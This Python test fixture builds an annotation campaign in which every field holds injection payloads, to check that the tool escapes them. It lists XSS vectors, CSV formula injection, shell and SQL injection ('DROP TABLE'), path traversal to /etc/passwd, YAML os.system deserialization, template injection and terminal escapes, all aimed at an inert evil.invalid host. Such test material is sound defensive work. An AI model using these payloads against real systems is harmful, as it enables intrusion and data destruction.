"""Hostile text: a table of payloads, what each would do, and a campaign that has all of them at every door.

A payload that runs sets `window.hostile`; one that becomes an element has the class "hostile"; one that reaches the
network asks for an address at `evil.invalid`, a name that no network has (RFC 2606).
"""

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path

from collection import Campaign, Judgement
from tests.collection.campaign.corpus.test_images import PNG

EVIL = "https://evil.invalid/"
IMAGE = "<img class=hostile src=x onerror=hostile=1>"
SCRIPT = "<script class=hostile>hostile=1</script>"
COVER = "position:fixed;inset:0;width:99vw;height:99vh;z-index:2147483647"

MARKUP = {
    # scripts
    "script": SCRIPT,
    "script in capitals": "<ScRiPt class=hostile>hostile=1</sCrIpT>",
    "script in pieces": f"<scr<script>ipt>hostile=1</scr</script>ipt>{SCRIPT}",
    "script from elsewhere": f"<script class=hostile src={EVIL}a.js></script>",
    "module": f"<script class=hostile type=module>import '{EVIL}b.js'; hostile=1</script>",
    "end of a script": f"</script>{SCRIPT}",
    "end of a title": f"</title>{IMAGE}",
    "end of a text field": f"</textarea>{IMAGE}",
    "end of a style": f"</style>{IMAGE}",
    "end of a comment": f"--><!-->{IMAGE}<!-- -->",
    "CDATA": f"<![CDATA[{SCRIPT}]]>",
    "processing instruction": f"<?xml version='1.0'?><?x ?>{IMAGE}",
    "noscript": f'<noscript class=hostile><p title="</noscript>{IMAGE}">',
    "template": f"<template class=hostile shadowrootmode=open>{SCRIPT}</template>",
    "mutation": f"<math class=hostile><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMAGE}'>",
    "UTF-7": "+ADw-script class=hostile+AD4-hostile=1+ADw-/script+AD4-",
    "entities": "&lt;script class=hostile&gt;hostile=1&lt;/script&gt;",
    "entities twice": "&amp;lt;img class=hostile src=x onerror=hostile=1&amp;gt;",
    "numeric entities": "&#60;img class=hostile src=x onerror=hostile=1&#x3e;",
    # event handlers
    "image": IMAGE,
    "double quote": f'">{IMAGE}',
    "single quote": f"'>{IMAGE}",
    "attribute": '" class=hostile autofocus tabindex=1 onfocus=hostile=1 onmouseover=hostile=1 x="',
    "attribute in backticks": "`` class=hostile onmouseover=hostile=1",
    "body": "<body class=hostile onload=hostile=1 onpageshow=hostile=1>",
    "details": "<details class=hostile open ontoggle=hostile=1><summary>x</summary></details>",
    "focus": "<input class=hostile autofocus onfocus=hostile=1>",
    "video": f"<video class=hostile src={EVIL}v.mp4 poster={EVIL}v.png onerror=hostile=1></video>",
    "audio": "<audio class=hostile><source src=x onerror=hostile=1></audio>",
    "marquee": "<marquee class=hostile onstart=hostile=1>x</marquee>",
    "animation": "<style class=hostile>@keyframes h{}</style><p class=hostile style=animation-name:h "
    "onanimationstart=hostile=1>",
    # links
    "link": "<a class=hostile href=javascript:hostile=1>x</a>",
    "link with a tab": "<a class=hostile href='java&#9;script:hostile=1'>x</a>",
    "data link": "<a class=hostile href='data:text/html,<script>opener.hostile=1</script>'>x</a>",
    "form": "<form class=hostile action=javascript:hostile=1><input type=submit autofocus></form>",
    "Markdown link": "[x](javascript:hostile=1)",
    "Markdown link in capitals": "[x](JaVaScRiPt:hostile=1 'x')",
    "Markdown link of entities": "[x](&#106;avascript&colon;hostile=1)",
    "Markdown link in brackets": "[x](<javascript:hostile=1>)",
    "Markdown link of data": "[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=)",
    "Markdown link of vbscript": "[x](vbscript:hostile)",
    "Markdown reference": "[x][y]\n\n[y]: javascript:hostile=1",
    "Markdown autolink": "<javascript:hostile=1>",
    "Markdown image": f"![x]({EVIL}m.png)",
    "Markdown image by reference": f"![x][z]\n\n[z]: {EVIL}n.png 'x'",
    "Markdown image in a link": f"[![x]({EVIL}o.png)](javascript:hostile=1)",
    "Markdown attributes": "[x](https://example.org){.hostile onclick=hostile=1}",
    "fence": f"```\n```html\n{IMAGE}\n~~~",
    "table": f"| a | b |\n|---|---|\n| {IMAGE} | [x](javascript:hostile=1) |",
    # SVG and frames
    "SVG": "<svg class=hostile onload=hostile=1><script>hostile=1</script></svg>",
    "SVG animation": "<svg class=hostile><animate onbegin=hostile=1 attributeName=x dur=1s></svg>",
    "SVG link": "<svg class=hostile><a xlink:href=javascript:hostile=1><text x=9 y=9>x</text></a></svg>",
    "SVG use": "<svg class=hostile><use href='data:image/svg+xml,<svg id=x onload=hostile=1/>#x'/></svg>",
    "SVG foreign object": f"<svg class=hostile><foreignObject>{IMAGE}</foreignObject></svg>",
    "frame": f"<iframe class=hostile src={EVIL}f.html></iframe>",
    "frame of a script": "<iframe class=hostile src=javascript:parent.hostile=1></iframe>",
    "frame of a document": '<iframe class=hostile srcdoc="<script>parent.hostile=1</script>"></iframe>',
    "object": "<object class=hostile data='data:text/html,<script>parent.hostile=1</script>'></object>",
    "embed": "<embed class=hostile src='javascript:hostile=1'>",
    # the network, and the page's box
    "picture elsewhere": f"<img class=hostile src={EVIL}p.png srcset='{EVIL}q.png 2x'>",
    "style sheet": f"<link class=hostile rel=stylesheet href={EVIL}s.css><style>@import '{EVIL}t.css';</style>",
    "preload": f"<link class=hostile rel=preload as=image href={EVIL}l.png><link rel=dns-prefetch href=//evil.invalid>",
    "refresh": f"<meta class=hostile http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base class=hostile href={EVIL} target=_top>",
    "background": f"<p class=hostile style=\"background:url('{EVIL}u.png')\">x",
    "cover": f"<div class=hostile style={COVER}>x</div>",
    "cover in CSS": f"<style class=hostile>*{{{COVER}!important}} body{{display:none}}</style>",
    "dialog": f"<dialog class=hostile open style={COVER}>x</dialog>",
    "popover": "<div class=hostile popover=manual id=hostile></div><button popovertarget=hostile>x</button>",
    "CSS of a component": f":host{{{COVER}}} .cd-text{{{COVER}}}",
    "named element": "<form class=hostile id=cleverdon name=cleverdon><input name=attributes></form>",
}
"""Name -> markup that browsers or Markdown would run, load, or draw outside of its box."""

WORDS = {
    # directions, and what looks like nothing
    "override": "safe_\u202egnp.exe",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "marks": "a\u200eb\u200fc\u061cd",
    "unclosed embeddings": "\u202b\u202d" * 30 + "x",
    "joiners": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "hostile"),
    "piled marks": "H" + "\u0336\u0310\u0343" * 200 + "i",
    "line separators": "a\u2028b\u2029c\x85d",
    "noncharacters": "a\ufffeb\uffffc\U0010ffffd",
    "carriage return": "harmless\rhostile",
    # terminals
    "window title": "\x1b]0;hostile\x07",
    "cleared screen": "\x1b[2J\x1b[1;1Hx",
    "C1 codes": "\x9b2Jx\x90hostile\x9c",
    "terminal link": f"\x1b]8;;{EVIL}\x1b\\x\x1b]8;;\x1b\\",
    "device status": "\x1b[6n\x1bP$qm\x1b\\\x05",
    "backspaces": "no\b\bok\x7f",
    # templates, shells and databases
    "template in braces": "{{constructor.constructor('hostile=1')()}}",
    "template literal": "${hostile=1}`+hostile+`",
    "template of tags": "<%= 7*7 %> <?= hostile ?> #{7*7} {% include '/etc/passwd' %}",
    "format": "{0.__class__.__mro__} %s %n %(x)s {hostile!r}",
    "Vega expression": "datum['x'] \\['hostile'\\] {signal: \"hostile=1\"}",
    "shell": "$(touch hostile) `touch hostile`; touch hostile | touch hostile #",
    "SQL": "'; DROP TABLE documents; --",
    "FTS5 query": '" OR title:* NEAR(a b, 5) ^x AND NOT (',
    "FTS5 column": 'doc_id:"" - {title text} : a* + b',
    "LaTeX": "\\input{/etc/passwd} \\write18{touch hostile} $x^2$ \\href{javascript:hostile=1}{x} % &",
    "Streamlit Markdown": ":material/home: :red[x] :smile: :streamlit: :blue-background[y] $\\href{javascript:1}{x}$",
    "YAML": "---\n!!python/object/apply:os.system ['touch hostile']\n---",
    "section of a card": "\n## Annotation guidelines\n\n# Forged\n",
    "JSON": '", "relevance": 3, "x": "\\u0000 \\ud800',
    "fields of a record": "\nER  - \nTY  - JOUR\nTI  - hostile\nPMID- 1\n</DOC>\n<DOC>",
    # spreadsheets
    "formula": f'=HYPERLINK("{EVIL}"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind an apostrophe": "'=1+1",
    "full-width formula": "\uff1d1+1",
    "formula in a second cell": 'x",=1+1,"\tx\t=1+1',
    # files
    "parent folder": "../../../../etc/passwd",
    "parent folder in Windows": "..\\..\\windows\\win.ini",
    "encoded parent folder": "%2e%2e%2f..%252f%00.png",
    "absolute path": "/etc/passwd",
    "file address": "file:///etc/passwd",
    "device": "CON.aux",
    "option": "--replace -o ProxyCommand=hostile",
    # sizes
    "word of 1 MB": "W" * (1 << 20),
    "blanks": "a" + " " * 5000 + "b",
    "lines": "\n".join("x" * 3000),
    "numbers": "9" * 5000 + " &#" + "9" * 5000 + "; 1e99999",
    "brackets": "[" * 3000 + "(" * 3000 + "*" * 3000 + ">" * 300,
}
"""Name -> text that other readers take for commands: terminals, spreadsheets, templates, databases, file systems."""

UNWRITABLE = {"NUL": "a\0b", "half a surrogate pair": "a\ud800b", "other half": "\udfff"}
"""Name -> text that no UTF-8 file, or no SQLite text, can hold; it is refused, or kept without these characters."""

PAYLOADS = MARKUP | WORDS | UNWRITABLE
STORED = MARKUP | WORDS


def word(payload: str, most: int = 400) -> str:
    """A payload as an id: without white space, for which HTML takes a slash too, and cut."""
    return re.sub(r"[\s\x00-\x1f\x7f-\x9f]+", "/", payload).strip()[:most]


def packs(number: int, payloads: dict[str, str] = STORED, most: int = 400) -> list[str]:
    """All payloads in a number of texts, each payload cut; for names, of which a campaign has few."""
    texts = [payload[:most] for payload in payloads.values()]
    return [" ".join(texts[start::number]) for start in range(number)]


def documents() -> Iterator[dict[str, object]]:
    """Each payload as title, text, metadata and description of an image: as Markdown, and in one of the other forms."""
    for number, payload in enumerate(STORED.values()):
        for form in ("markdown", ("plain", "preformatted", "html")[number % 3]):
            yield {
                "doc_id": f"{word(payload, 80)}-{form}-{number}",
                "title": payload,
                "text": f"<!doctype html><title>{payload}</title><p>{payload}" if form == "html" else payload,
                "format": form,
                "images": [{"src": "a.png", "alt": payload}, {"src": f"{EVIL}i.png", "alt": payload}],
                payload[:400]: payload,
                "list": [payload, {payload[:400]: [payload]}],
            }


PEOPLE = (
    "<img src=x onerror=hostile=1>",
    "[x](javascript:hostile=1)",
    ":material/home: **x**",
    "=cmd|' /C calc'!A0",
    "{{7*7}}${7*7}",
    "../../etc/passwd",
)
"""Names of annotators; others are refused for their length, or for what cannot be seen."""


def write_files(folder: Path) -> dict[str, object]:
    """Files with a payload in each field, as :meth:`.Importer.import_files` takes them."""
    ids = [str(document["doc_id"]) for document in documents()]
    with (folder / "documents.jsonl").open("w", encoding="utf-8") as file:
        file.writelines(json.dumps(document) + "\n" for document in documents())
    topics = [
        {
            "query_id": f"{word(payload, 80)}-q{number}",
            "title": payload,
            "description": payload,
            "narrative": payload,
            "history": [{"speaker": payload[:400], "text": payload}],
            payload[:400]: {payload[:400]: [payload]},
        }
        for number, payload in enumerate(STORED.values())
    ]
    topics.insert(0, {"query_id": "all-in-one", "title": "All", "description": "", "narrative": ""})
    (folder / "topics.jsonl").write_text("".join(json.dumps(topic) + "\n" for topic in topics))
    runs = []
    for number, name in enumerate(names := [word(pack, 1500) for pack in packs(12)]):
        # Of three runs the file names the run, of the others the tag.
        by_file = name.replace("/", "|").encode()[:200].decode(errors="ignore") if number < 3 else ""
        tag = "" if by_file else f" {name}"
        order = ids[number:] + ids[:number]
        lines = [f"all-in-one Q0 {doc_id} {rank} {9999 - rank}{tag}\n" for rank, doc_id in enumerate(order)]
        for place, topic in enumerate(topics[1:]):  # every document is among the first two of a topic
            few = ids[2 * place : 2 * place + 4]
            lines += [f"{topic['query_id']} Q0 {doc_id} {rank} {9 - rank}{tag}\n" for rank, doc_id in enumerate(few)]
        runs.append(folder / f"{by_file or number}.run")
        runs[-1].write_text("".join(lines), encoding="utf-8")
    with (folder / "costs.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["run", "latency_ms", "hardware", word(SCRIPT)])
        rows.writerows(
            [name, number, pack, pack] for number, (name, pack) in enumerate(zip(names[3:], packs(9), strict=True))
        )
    clicks = folder / f"{word(IMAGE).replace('/', '|')}.csv"
    clicks.write_text(f'query_id,doc_id,rank,shown,clicked\nall-in-one,"{ids[0]}",1,9,3\n', encoding="utf-8")
    return {
        "documents": [folder / "documents.jsonl"],
        "topics": folder / "topics.jsonl",
        "runs": runs,
        "costs": folder / "costs.csv",
        "clicks": clicks,
    }


def build(folder: Path) -> Path:
    """A campaign with every payload at every door that takes it, whose annotators differ."""
    (folder / "a.png").write_bytes(PNG)
    files = write_files(folder)
    grades = {str(grade): pack for grade, pack in enumerate(packs(10))}
    (folder / "grades.json").write_text(json.dumps(grades))
    everything = packs(1)[0]
    with Campaign.create(folder / "campaign", title=everything, grades=str(folder / "grades.json")) as campaign:
        campaign.imports.import_files(**files)
        campaign.people.pools.add("depth", depth=1000)
        campaign.people.assignments.update(annotators=3)
        settings = campaign.settings
        settings.set_guidelines("\n\n".join(payload[:2000] for payload in STORED.values()))
        settings.set_collection(description=everything, licence=everything, citation=everything)
        for name, group in zip(PEOPLE, packs(len(PEOPLE), {p: p for p in PEOPLE}), strict=True):
            campaign.people.accounts.add(name, "annotator")
            campaign.people.accounts.set_groups(name, [group[:64]])
        topics = campaign.store.corpus.topics()["query_id"].tolist()
        for topic, payload in zip(topics, STORED.values(), strict=False):
            settings.set_topic_note(topic, payload)
        said = []
        notes = [payload for payload in STORED.values() for _ in range(2)]  # each for two documents
        for number, (document, note) in enumerate(zip(documents(), notes, strict=True)):
            first, second = (
                Judgement(f"{number}-{name}", name, "all-in-one", str(document["doc_id"]), "graded", grade, note=note)
                for name, grade in zip(PEOPLE[:2], (0, 9), strict=True)
            )
            if number % 2:
                second = second._replace(kind="cannot judge", relevance=None, reason=note)
            said += [first, second]
        for number, (query_id, payload) in enumerate(zip(topics[1:], STORED.values(), strict=True)):
            (doc_id,) = campaign.judging.topic_tasks.state().documents(query_id)[:1]
            said.append(Judgement(f"{number}-ann", "ann", query_id, doc_id, "graded", number % 10, note=payload))
        refused = campaign.judging.judge_many(said).refused
        assert not refused, refused
    return folder / "campaign"
